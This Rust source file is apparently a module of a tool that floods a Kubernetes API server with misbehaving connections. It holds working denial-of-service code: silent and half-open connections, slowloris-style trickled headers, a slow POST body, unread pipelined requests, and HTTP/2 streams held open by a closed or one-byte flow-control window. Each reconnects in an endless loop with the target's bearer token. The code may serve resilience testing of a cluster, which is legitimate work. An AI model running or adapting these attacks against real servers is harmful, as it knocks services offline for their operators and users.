//! Connections that do not do their part.

use crate::target::Target;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio::time::sleep;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// The behavior of a connection until the server closes it; then it is opened again.
#[derive(Clone, Copy)]
enum Behavior {
    /// Not even a handshake.
    Silent,
    /// Only these bytes.
    Stops(&'static [u8]),
    /// A byte of a head from time to time.
    SlowHead,
    /// A slow body.
    SlowBody,
    /// Endless requests, whose responses are not read.
    Pipelines,
    /// A number of HTTP/2 streams with a closed window of the client.
    NoWindow(u32),
    /// The same, but a window that opens byte by byte.
    SmallWindow(u32),
    /// So many streams of HTTP/2 that are read.
    Streams(u32, &'static str),
}

use Behavior::{NoWindow, Pipelines, Silent, SlowBody, SlowHead, SmallWindow, Stops, Streams};

/// The names of behaviors, with their numbers of connections.
const ALL: [(&str, usize, Behavior); 11] = [
    ("silent", 100, Silent),
    ("handshake alone", 50, Stops(b"")),
    ("preface alone", 50, Stops(b"PRI * HTTP/2.0\r\n")),
    ("whole preface alone", 20, Stops(PREFACE)),
    ("slow head", 50, SlowHead),
    ("slow body", 50, SlowBody),
    ("pipelines", 20, Pipelines),
    ("no window", 6, NoWindow(300)),
    ("small window", 3, SmallWindow(300)),
    ("watches", 3, Streams(900, "/api/v1/namespaces/play/configmaps?watch=1")),
    ("future", 2, Streams(200, "/api/v1/namespaces/play/configmaps?resourceVersion=99999999")),
];

pub(crate) fn begin(target: &Target, only: &str, attacks: &mut JoinSet<()>) {
    for (_, count, behavior) in ALL.into_iter().filter(|(name, ..)| name.starts_with(only)) {
        for n in 0..count {
            let target = target.clone();
            attacks.spawn(async move {
                // They start with delays.
                sleep(Duration::from_millis(10 * n as u64)).await;
                loop {
                    let _ = behave(&target, behavior).await;
                    sleep(Duration::from_millis(200)).await;
                }
            });
        }
    }
}

async fn behave(target: &Target, behavior: Behavior) -> std::io::Result<()> {
    if let Silent = behavior {
        let mut stream = tokio::net::TcpStream::connect(&target.address).await?;
        return drain(&mut stream).await;
    }
    let mut stream = target.connect().await?;
    match behavior {
        Silent => {}
        Stops(bytes) => stream.write_all(bytes).await?,
        SlowHead => {
            stream.write_all(target.head("GET", "/healthz").as_bytes()).await?;
            loop {
                stream.write_all(b"a").await?;
                stream.flush().await?;
                sleep(Duration::from_secs(1)).await;
            }
        }
        SlowBody => {
            let head = target.head("POST", "/apis/authentication.k8s.io/v1/selfsubjectreviews");
            stream
                .write_all(
                    format!("{head}Content-Type: application/json\r\nContent-Length: 3000000\r\n\r\n").as_bytes(),
                )
                .await?;
            loop {
                stream.write_all(&[b' '; 1000]).await?;
                stream.flush().await?;
                sleep(Duration::from_millis(500)).await;
            }
        }
        Pipelines => {
            let request = target.head("GET", path(target, 0)) + "\r\n";
            loop {
                stream.write_all(request.as_bytes()).await?;
            }
        }
        NoWindow(streams) => {
            stream.write_all(&open(target, streams, 0, |n| path(target, n))).await?;
        }
        SmallWindow(streams) => {
            stream.write_all(&open(target, streams, 1, |n| path(target, n))).await?;
            stream.flush().await?;
            loop {
                for n in 0..streams {
                    stream.write_all(&frame(8, 0, 2 * n + 1, &1_u32.to_be_bytes())).await?;
                }
                stream.flush().await?;
                sleep(Duration::from_secs(1)).await;
            }
        }
        Streams(streams, path) => {
            stream.write_all(&open(target, streams, 1 << 20, |_| path)).await?;
        }
    }
    stream.flush().await?;
    drain(&mut stream).await
}

/// Something large that the account may read.
fn path(target: &Target, n: u32) -> &'static str {
    match (target.account.as_str(), n % 3) {
        ("nobody", _) => "/openapi/v2",
        (_, 0) => "/api/v1/namespaces/play/configmaps",
        (_, 1) => "/api/v1/namespaces/play/configmaps/large-1",
        _ => "/api/v1/namespaces/play/configmaps?watch=1&resourceVersion=0",
    }
}

/// Reads until the server closes the connection.
async fn drain(stream: &mut (impl AsyncReadExt + Unpin)) -> std::io::Result<()> {
    let mut buffer = vec![0; 1 << 16];
    while stream.read(&mut buffer).await? > 0 {}
    Ok(())
}

fn frame(ty: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[ty, flags], &stream.to_be_bytes(), payload].concat()
}

/// Writes the beginning of an HTTP/2 connection with a number of requests.
fn open(target: &Target, streams: u32, window: u32, path: impl Fn(u32) -> &'static str) -> Vec<u8> {
    let initial_window = [&[0, 4][..], &window.to_be_bytes()].concat();
    let mut bytes = [PREFACE, &frame(4, 0, 0, &initial_window)].concat();
    // The window of the connection is open.
    bytes.extend(frame(8, 0, 0, &(1_u32 << 30).to_be_bytes()));
    for n in 0..streams {
        let authorization = format!("Bearer {}", target.token);
        let fields = [
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", "localhost"),
            (":path", path(n)),
            ("authorization", &authorization),
        ];
        let mut block = Vec::new();
        for (name, value) in fields {
            // Literal, without an index.
            block.push(0);
            for text in [name, value] {
                integer(&mut block, text.len());
                block.extend_from_slice(text.as_bytes());
            }
        }
        bytes.extend(frame(1, 0x5, 2 * n + 1, &block));
    }
    bytes
}

/// Writes the length of a text as HPACK does.
fn integer(block: &mut Vec<u8>, mut length: usize) {
    if length < 127 {
        return block.push(length as u8);
    }
    block.push(127);
    length -= 127;
    while length >= 128 {
        block.push((length % 128) as u8 | 128);
        length /= 128;
    }
    block.push(length as u8);
}
